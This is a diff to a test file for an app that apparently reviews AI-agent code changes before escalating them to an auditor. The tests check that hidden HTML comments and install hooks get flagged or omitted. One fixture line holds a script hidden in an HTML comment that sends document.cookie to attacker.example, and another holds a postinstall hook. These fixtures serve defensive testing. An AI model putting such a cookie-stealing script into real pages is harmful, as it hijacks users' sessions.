@@ -51,6 +51,7 @@ describe("what the app pushes and what the Auditor sees", () => {
     expect(escalation).toContain("<summary>The proposed change</summary>");
     expect(escalation).toContain('+{"name":"widgets","version":"1.0.0","scripts":{"test":"vitest run","postinstall":"node x.js"}}');
     expect(escalation).not.toContain("x.js b/x.js");
+    expect(escalation).not.toContain("Shown in part");
 
     const runId = `gh-${h.sim.repository(OWNER, REPO).id}-${issue}-1`;
     const result = h.api!.calls.find((c) => c.path === `/runs/${runId}/phases/P1/builder_result`)?.body as Record<string, unknown>;
@@ -91,5 +92,20 @@ describe("what the app pushes and what the Auditor sees", () => {
     expect(audit?.prompt).toContain(
       "+<p>Widgets</p>\n+<!-- \n+<script>fetch('https://attacker.example/?c=' + document.cookie)</script>\n</untrusted>",
     );
+  });
+
+  it("the proposed change in an escalation says when the app left part of it out", async () => {
+    w = await startWorld();
+    const { h, s } = w;
+    scriptAgents(h.llm, {
+      builds: {
+        P1: [{ summary: "Build", edits: [{ path: "Makefile", action: "create", content: "all:\n\t@echo hi <!-- and more -->\n" }] }],
+      },
+    });
+    const issue = await s.label(yamlPlan({ T1: [["P1", "Make"]] }));
+    const escalation = s.botComments(issue).find((c) => c.body?.includes("autopack:escalation"))?.body ?? "";
+    expect(escalation).toContain("Makefile (a build or install hook: added)");
+    expect(escalation).toContain("Shown in part: HTML comments, invisible characters or secret-shaped text were left out, or it was cut.");
+    expect(escalation).not.toContain("and more");
   });
 });
